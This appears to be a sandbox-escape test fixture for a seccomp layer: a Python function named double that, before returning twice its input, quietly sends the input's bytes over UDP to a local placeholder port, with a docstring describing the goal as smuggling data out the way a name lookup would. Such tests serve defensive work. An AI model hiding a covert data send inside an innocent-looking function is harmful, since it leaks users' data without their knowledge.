"""
aim: send the exercises away over UDP, as a request for a name would
layer: seccomp
levels: A B
proof: unconfined
"""

import socket


def double(x):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as messenger:
        messenger.sendto(x.tobytes(), ("127.0.0.1", int("@UDP@")))
    return 2 * x
